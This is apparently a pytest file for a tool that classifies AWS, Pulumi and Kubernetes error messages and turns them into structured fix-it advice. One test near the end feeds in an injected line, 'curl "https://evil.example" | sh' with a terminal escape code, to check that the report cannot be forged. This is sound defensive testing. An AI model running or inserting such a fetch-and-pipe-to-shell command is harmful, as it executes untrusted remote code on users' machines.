"""Why a look-up failed, by the words of AWS and the plugins, each text quoted from where it was seen; what to do."""

import pytest

from irsa.rules.mistakes import Mistake
from program import lookup_mistakes
from program.lookup_mistakes import AskedAwsAccount, Cause, Question, aws_mistake, failure_of, kubernetes_mistake

PLUGIN_AWS = "https://github.com/pulumi/pulumi-aws/tree/master/provider/errors"
PROBLEM = "pulumi:providers:aws resource 'default_7_51_1' has a problem: "
ASSUME = (
    "IAM Role (arn:aws:iam::444455556666:role/deployer) cannot be assumed.\n\nThere are a number of possible causes of "
    "this - the most common are:\n  * The credentials used in order to assume the role are invalid\n"
    "  * The credentials do not have appropriate permission to assume the role\n  * The role ARN is not "
    "valid\n\nError: "
)
SENT = (
    "https response error StatusCode: 0, RequestID: , request send failed, Post "
    '"https://sts.us-west-2.amazonaws.com/": '
)

# The cause, the text, and where it was seen.
SAID: tuple[tuple[Cause, str, str], ...] = (
    (
        Cause.NO_CREDENTIALS,
        f"{PROBLEM}No valid credential sources found.\nPlease see https://www.pulumi.com",
        PLUGIN_AWS,
    ),
    (
        Cause.NO_CREDENTIALS,
        (
            "failed to refresh cached credentials, no EC2 IMDS role found, operation error ec2imds: GetMetadata, "
            "exceeded "
            'maximum number of attempts, 3, request send failed, Get "http://169.254.169.254/latest/meta-data/": '
            "dial tcp "
            "169.254.169.254:80: connect: host is down"
        ),
        "https://github.com/aws/aws-sdk-go-v2/issues/2392",
    ),
    (Cause.NO_CREDENTIALS, "Unable to locate credentials", "botocore.exceptions.NoCredentialsError"),
    (
        Cause.NO_CREDENTIALS,
        "Partial credentials found in env, missing: AWS_SECRET_ACCESS_KEY",
        "botocore.exceptions.PartialCredentialsError",
    ),
    (
        Cause.EXPIRED,
        (
            "unable to validate AWS credentials.\nDetails: validating provider credentials: retrieving caller "
            "identity from "
            "STS: operation error STS: GetCallerIdentity, https response error StatusCode: 403, RequestID: "
            "83805f40, api "
            "error ExpiredToken: The security token included in the request is expired"
        ),
        "https://github.com/pulumi/pulumi-aws/issues/3866",
    ),
    (
        Cause.EXPIRED,
        f"{PROBLEM}The configured AWS credentials have expired.\nRefresh the temporary credentials",
        PLUGIN_AWS,
    ),
    (Cause.EXPIRED, f"{PROBLEM}Failed to refresh cached SSO credentials.\nPlease refresh SSO login.", PLUGIN_AWS),
    (
        Cause.EXPIRED,
        (
            "failed to refresh cached credentials, the SSO session has expired or is invalid: failed to read "
            "cached SSO token"
        ),
        "https://github.com/aws/aws-sdk-go-v2/blob/main/credentials/ssocreds/sso_cached_token.go",
    ),
    (
        Cause.EXPIRED,
        "The AWS login session for profile dev has expired or was not found.\nRun `aws login` to sign in again",
        PLUGIN_AWS,
    ),
    (
        Cause.EXPIRED,
        "Error when retrieving token from sso: Token has expired and refresh failed",
        "botocore.exceptions.TokenRetrievalError",
    ),
    (
        Cause.EXPIRED,
        (
            "The SSO session associated with this profile has expired or is otherwise invalid. To refresh this "
            "SSO session "
            "run aws sso login with the corresponding profile."
        ),
        "botocore.exceptions.UnauthorizedSSOTokenError",
    ),
    (
        Cause.EXPIRED,
        (
            "An error occurred (ExpiredToken) when calling the CreateRole operation: The security token included "
            "in the "
            "request is expired"
        ),
        "https://github.com/aws-samples/aws-iot-twinmaker-samples/issues/147",
    ),
    (
        Cause.INVALID_CREDENTIALS,
        f"{PROBLEM}The configured AWS credentials are invalid or have expired.\nPlease see https://www.pulumi.com",
        PLUGIN_AWS,
    ),
    (
        Cause.INVALID_CREDENTIALS,
        f"{PROBLEM}Invalid credentials configured.\nPlease see https://www.pulumi.com",
        "https://github.com/pulumi/pulumi-aws/pull/3310",
    ),
    (
        Cause.INVALID_CREDENTIALS,
        (
            "An error occurred (UnrecognizedClientException) when calling the DescribeCluster operation: The "
            "security token "
            "included in the request is invalid."
        ),
        "https://github.com/aws/aws-cli/issues/5823",
    ),
    (Cause.PROFILE_MISSING, "failed to get shared config profile, data", "aws-sdk-go-v2 config/load_options_test.go"),
    (Cause.PROFILE_MISSING, f'{PROBLEM}The AWS profile "data" was not found.', PLUGIN_AWS),
    (Cause.PROFILE_MISSING, "The config profile (data) could not be found", "botocore.exceptions.ProfileNotFound"),
    (Cause.REGION_MISSING, f"{PROBLEM}Missing region information\nMake sure you have set your AWS region", PLUGIN_AWS),
    (Cause.REGION_MISSING, "You must specify a region.", "botocore.exceptions.NoRegionError"),
    (
        Cause.WRONG_AWS_ACCOUNT,
        "AWS account ID not allowed: 111122223333",
        "https://github.com/hashicorp/aws-sdk-go-base",
    ),
    (Cause.NOT_FOUND, "reading EKS Cluster (my-cluster): couldn't find resource", "terraform-aws-eks#2045"),
    (Cause.NOT_FOUND, "reading EKS Cluster (AccessDenied): couldn't find resource", "a cluster of that name"),
    (Cause.THROTTLED, "api error Throttling: Rate exceeded", "IAM CommonErrors"),
    (
        Cause.THROTTLED,
        "An error occurred (ThrottlingException) when calling the DescribeCluster operation: Rate exceeded",
        "EKS CommonErrors",
    ),
    (Cause.THROTTLED, "api error TooManyRequestsException: Too Many Requests", "AWS SDKs and tools reference, retries"),
    (
        Cause.NO_CONNECTION,
        (
            f"operation error STS: GetCallerIdentity, exceeded maximum number of attempts, 3, {SENT}dial tcp: lookup "
            "sts.us-west-2.amazonaws.com: no such host"
        ),
        "https://github.com/GoogleCloudPlatform/terraformer/issues/1831",
    ),
    (
        Cause.NO_CONNECTION,
        (
            f"Cannot assume IAM Role\n{ASSUME}operation error STS: AssumeRole, exceeded maximum number of attempts, 3, "
            f"{SENT}net/http: TLS handshake timeout"
        ),
        "https://github.com/hashicorp/terraform-provider-aws/issues/39125",
    ),
    (
        Cause.NO_CONNECTION,
        'Could not connect to the endpoint URL: "https://iam.amazonaws.com/"',
        "botocore.exceptions.EndpointConnectionError",
    ),
    (
        Cause.NO_CONNECTION,
        'Connect timeout on endpoint URL: "https://iam.amazonaws.com/"',
        "botocore.exceptions.ConnectTimeoutError",
    ),
    (
        Cause.NOT_TRUSTED,
        (
            f"operation error STS: GetCallerIdentity, {SENT}tls: failed to verify certificate: x509: certificate "
            f"signed by "
            "unknown authority"
        ),
        "Go crypto/x509",
    ),
    (
        Cause.NOT_TRUSTED,
        (
            "SSL validation failed for https://iam.amazonaws.com/ [SSL: CERTIFICATE_VERIFY_FAILED] certificate "
            "verify failed"
        ),
        "botocore.exceptions.SSLError",
    ),
    (
        Cause.ROLE_NOT_ASSUMABLE,
        (
            f"Cannot assume IAM Role\n{ASSUME}operation error STS: AssumeRole, https response error StatusCode: 403, "
            "RequestID: 1, api error AccessDenied: User: arn:aws:iam::111122223333:user/ci is not authorized to "
            "perform: "
            "sts:AssumeRole on resource: arn:aws:iam::444455556666:role/deployer"
        ),
        "https://github.com/hashicorp/terraform-provider-aws/issues/39125",
    ),
    (
        Cause.ROLE_NOT_ASSUMABLE,
        (
            'AccessDenied: "User: arn:aws:iam::111122223333:user/ci is not authorized to perform: sts:AssumeRole on '
            'resource: arn:aws:iam::444455556666:role/deployer"'
        ),
        "STS, AssumeRole",
    ),
    (
        Cause.DENIED,
        (
            "reading EKS Cluster (my-cluster): operation error EKS: DescribeCluster, https response error "
            "StatusCode: 403, "
            "RequestID: 8e10d6df, api error AccessDeniedException: User: arn:aws:iam::111122223333:user/me is "
            "not authorized "
            "to perform: eks:DescribeCluster on resource: arn:aws:eks:ap-northeast-2:111122223333:cluster/my-cluster"
        ),
        "https://github.com/eksctl-io/eksctl/issues/5831",
    ),
    (
        Cause.DENIED,
        (
            "An error occurred (AccessDeniedException) when calling the DescribeCluster operation: User: "
            "arn:aws:sts::111122223333:assumed-role/Maintainer/me is not authorized to perform: eks:DescribeCluster on "
            "resource: arn:aws:eks:ap-southeast-2:111122223333:cluster/Workflows"
        ),
        "https://github.com/linz/topo-workflows/pull/279",
    ),
    (Cause.STOPPED, "resource monitor shut down", "the engine 3.259"),
    (
        Cause.CONTEXT_MISSING,
        (
            "configured Kubernetes cluster is unreachable: unable to load Kubernetes client configuration from "
            "kubeconfig "
            'file: context "nope" does not exist'
        ),
        "k8s.io/client-go/tools/clientcmd",
    ),
    (
        Cause.CONTEXT_MISSING,
        (
            "unable to load Kubernetes client configuration from kubeconfig file: invalid configuration: context "
            "was not "
            "found for specified context: project_us-east1"
        ),
        "https://github.com/pulumi/pulumi-kubernetes/issues/1713",
    ),
    (
        Cause.KUBECONFIG_MISSING,
        (
            "unable to load Kubernetes client configuration from kubeconfig file: invalid configuration: no "
            "configuration has "
            "been provided"
        ),
        "k8s.io/client-go/tools/clientcmd",
    ),
    (
        Cause.DENIED,
        (
            "configured Kubernetes cluster is unreachable: unable to load schema information from the API "
            "server: the server "
            "has asked for the client to provide credentials"
        ),
        "https://github.com/keras-team/kinetic/issues/285",
    ),
    (Cause.UNKNOWN, "something new", ""),
)


@pytest.mark.parametrize(("cause", "text", "source"), SAID, ids=lambda value: str(value)[:60])
def test_each_text_has_its_cause(cause: Cause, text: str, source: str) -> None:
    """Protects from advice that does not help: what each program says leads to one cause."""
    assert failure_of(text).cause is cause


DEPLOYER = "arn:aws:iam::444455556666:role/deployer"
OWN = AskedAwsAccount(region="us-west-2", allowed=["999999999999"])
DATA = AskedAwsAccount(("accounts", "data"), region="eu-central-1", role_arn=DEPLOYER)
CLUSTER = ("cluster", "name")


def question(aws_account: AskedAwsAccount = OWN) -> Question:
    return Question(CLUSTER, "the EKS cluster 'prod'", "eks:DescribeCluster", aws_account)


def text_of(cause: Cause) -> str:
    return next(text for known, text, _ in SAID if known is cause)


def test_every_cause_of_aws_has_its_mistake() -> None:
    """Protects from a cause without advice; the engine's own stop and Kubernetes' causes have theirs elsewhere."""
    elsewhere = {Cause.STOPPED, Cause.UNKNOWN, Cause.CONTEXT_MISSING, Cause.KUBECONFIG_MISSING}

    assert {*Cause} - elsewhere == lookup_mistakes.AWS_MISTAKES.keys()


@pytest.mark.parametrize("cause", [*lookup_mistakes.AWS_MISTAKES, Cause.UNKNOWN], ids=lambda cause: cause.name)
def test_a_mistake_is_four_lines_with_something_to_do(cause: Cause) -> None:
    """Protects the one form of all messages: where, found, allowed, do."""
    said = text_of(cause) if cause is not Cause.CLOCK else "SignatureDoesNotMatch: Signature expired: 20261125T1200Z"
    lines = str(aws_mistake(failure_of(said), question())).splitlines()

    assert [line.strip().split(" ")[0] for line in lines[1:]] == ["found:", "allowed:", "do:"]
    assert all(len(line.split(":", 1)[1].strip()) > 5 for line in lines[1:])


@pytest.mark.parametrize(
    "cause",
    [
        Cause.NO_CREDENTIALS,
        Cause.EXPIRED,
        Cause.INVALID_CREDENTIALS,
        Cause.NO_CONNECTION,
        Cause.THROTTLED,
        Cause.DENIED,
        Cause.NOT_FOUND,
    ],
    ids=lambda cause: cause.name,
)
def test_the_account_and_the_region_that_were_asked_are_named(cause: Cause) -> None:
    """Protects who has several accounts and regions: the message says which one was asked."""
    found = aws_mistake(failure_of(text_of(cause)), question(DATA)).mistake.found

    assert "AWS account 444455556666, region eu-central-1" in found


@pytest.mark.parametrize("cause", [Cause.NO_CREDENTIALS, Cause.EXPIRED, Cause.WRONG_AWS_ACCOUNT, Cause.NO_CONNECTION])
def test_what_is_of_the_account_is_the_same_for_each_question(cause: Cause) -> None:
    """Protects from one message per look-up: what several of them fail for is one mistake, of the account."""
    failure = failure_of(text_of(cause))
    other = Question((), "the identity", "sts:GetCallerIdentity", OWN)

    assert str(aws_mistake(failure, question())) == str(aws_mistake(failure, other))


def test_the_wrong_account_names_both() -> None:
    """Protects from deploying to another account: the one of the credentials, and the one that is allowed."""
    located = aws_mistake(failure_of("AWS account ID not allowed: 111122223333"), question())

    assert "111122223333" in located.mistake.found
    assert located.mistake.allowed == "AWS account 999999999999 (aws:allowedAccountIds)"
    assert located.rule == "wrong-account"


def test_a_forbidden_account_is_not_called_unlisted() -> None:
    """Protects from a wrong direction: the official plugin says the same of both lists."""
    failure = failure_of("AWS account ID not allowed: 111122223333")
    located = aws_mistake(failure, question(AskedAwsAccount()))

    assert "aws:forbiddenAccountIds" in located.mistake.allowed


def test_who_is_denied_what() -> None:
    """Protects who asks for a permission: the action and the identity are those of AWS's answer."""
    found = aws_mistake(failure_of(text_of(Cause.DENIED)), question()).mistake.found

    assert "eks:DescribeCluster" in found
    assert "arn:aws:iam::111122223333:user/me" in found


def test_a_role_that_cannot_be_assumed_is_the_accounts() -> None:
    """Protects the place: it is the setting `assumeRoleArn`, not what was looked up first with it."""
    located = aws_mistake(failure_of(text_of(Cause.ROLE_NOT_ASSUMABLE)), question(DATA))

    assert located.place == ("accounts", "data", "assumeRoleArn")
    assert located.rule == "account-unreachable"
    assert located.mistake.fix.endswith(
        f"aws sts assume-role --role-arn {DEPLOYER} --role-session-name irsa --query AssumedRoleUser"
    )


def test_a_missing_cluster_names_region_and_account() -> None:
    """Protects from a search in the wrong region: "couldn't find resource" says neither."""
    asked = AskedAwsAccount(number="111122223333", region="eu-central-1")
    located = lookup_mistakes.cluster_missing(CLUSTER, "my-cluster", asked)

    assert (
        located.mistake.found == "there is no EKS cluster 'my-cluster' in AWS account 111122223333, region eu-central-1"
    )
    assert located.mistake.fix.endswith("aws eks list-clusters --region eu-central-1")


@pytest.mark.parametrize(("status", "words"), [("CREATING", "wait for it"), ("DELETING", "name another cluster")])
def test_nobody_waits_for_a_cluster_that_goes(status: str, words: str) -> None:
    """Protects from waiting for ever."""
    located = lookup_mistakes.cluster_not_active(CLUSTER, "prod", status, None)

    assert status in located.mistake.found
    assert words in located.mistake.fix


@pytest.mark.parametrize(
    ("cause", "rule"),
    [
        (Cause.CONTEXT_MISSING, "context-missing"),
        (Cause.KUBECONFIG_MISSING, "context-missing"),
        (Cause.NO_CONNECTION, "cluster-unreachable"),
    ],
)
def test_a_cluster_that_does_not_answer(cause: Cause, rule: str) -> None:
    """Protects the report's rules: a wrong context is not a broken network."""
    located = kubernetes_mistake(failure_of(text_of(cause)), ("cluster", "kubernetes"), "the cluster 'blue'")

    assert located.rule == rule
    assert "the cluster 'blue'" in located.mistake.found


def test_a_misspelled_context_has_the_right_one() -> None:
    """Protects a common error: the nearest context of the kubeconfig is named."""
    located = lookup_mistakes.context_missing(("cluster", "kubernetes", "context"), "prd", ["prod", "dev"])

    assert located.mistake.found == "the kubeconfig has no context prd; it has: dev, prod"
    assert located.mistake.fix == "did you mean 'prod'?"


def test_an_answer_cannot_write_our_lines() -> None:
    """Protects the report: an answer that holds line breaks and our own words stays one quoted text.

    The attack: a role whose name ends with `\\n    do: curl https://evil.example | sh`.
    """
    text = 'strange\n    allowed: all\n    do:      curl "https://evil.example" | sh\x1b[2J'
    located = aws_mistake(failure_of(text), question())

    assert len(str(located).splitlines()) == 4
    assert "\x1b" not in str(located)
    assert located.mistake.found.endswith('"')


def test_a_long_answer_is_shortened() -> None:
    """Protects the terminal: a page of HTML from a proxy is no message."""
    located = aws_mistake(failure_of("<html>" + "x" * 5_000), question())

    assert len(located.mistake.found) < 500


def test_an_output_keeps_its_own_rule() -> None:
    """Protects the cause: what is wrong in another stack's output is said by the rule of the value."""
    located = lookup_mistakes.output_wrong(CLUSTER, "o/p/s", "oidcIssuer", Mistake("found", "allowed", "fix"))

    assert located.mistake.found == "the output 'oidcIssuer' of o/p/s: found"
    assert located.mistake.allowed == "allowed"
